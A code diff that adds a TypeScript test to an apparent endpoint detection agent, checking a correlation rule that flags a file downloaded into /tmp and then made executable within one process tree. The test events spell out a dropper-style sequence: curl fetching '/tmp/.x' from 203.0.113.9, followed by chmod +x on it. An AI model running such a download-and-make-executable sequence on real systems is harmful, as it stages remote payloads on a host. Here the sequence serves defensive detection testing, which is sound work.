@@ -129,3 +129,24 @@ describe('behaviour module with the real responder', () => {
     assert.equal(alerts.length, 0);
   });
 });
+
+describe('behaviour sequences (Sigma correlations) on the agent', () => {
+  const start = (n: number, pid: number, parent: string, args: string[]): ProcessEvent => ({
+    '@timestamp': new Date().toISOString(),
+    event: { id: `ev-seq-${n}`, dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' },
+    process: { entity_id: `ent-${n}`, pid, ppid: 1, executable: `/usr/bin/${args[0] ?? ''}`, args, command_line: args.join(' '), parent: { entity_id: parent, pid: 1 } },
+  });
+  const SEQ = 'Download Into /tmp Then Made Executable In The Same Process Tree';
+
+  it('download into /tmp then chmod +x from the same shell: one sequence alert; the steps alone report nothing', async () => {
+    const { module, alerts } = await harness('monitor');
+    module.onEvent?.(start(1, 901, 'shell-a', ['curl', '-so', '/tmp/.x', 'http://203.0.113.9/x']));
+    module.onEvent?.(start(2, 902, 'shell-b', ['chmod', '+x', '/tmp/.x'])); // another shell: no sequence
+    assert.equal(alerts.length, 0, 'building blocks are silent');
+    module.onEvent?.(start(3, 903, 'shell-a', ['chmod', '+x', '/tmp/.x']));
+    await new Promise((r) => setTimeout(r, 50));
+    assert.deepEqual(alerts.map((a) => a.rule.name), [SEQ]);
+    assert.equal(alerts[0]?.rule.level, 'high');
+    assert.ok(alerts[0]?.yamori.reasons?.some((r) => r.includes('2 steps')));
+  });
+});
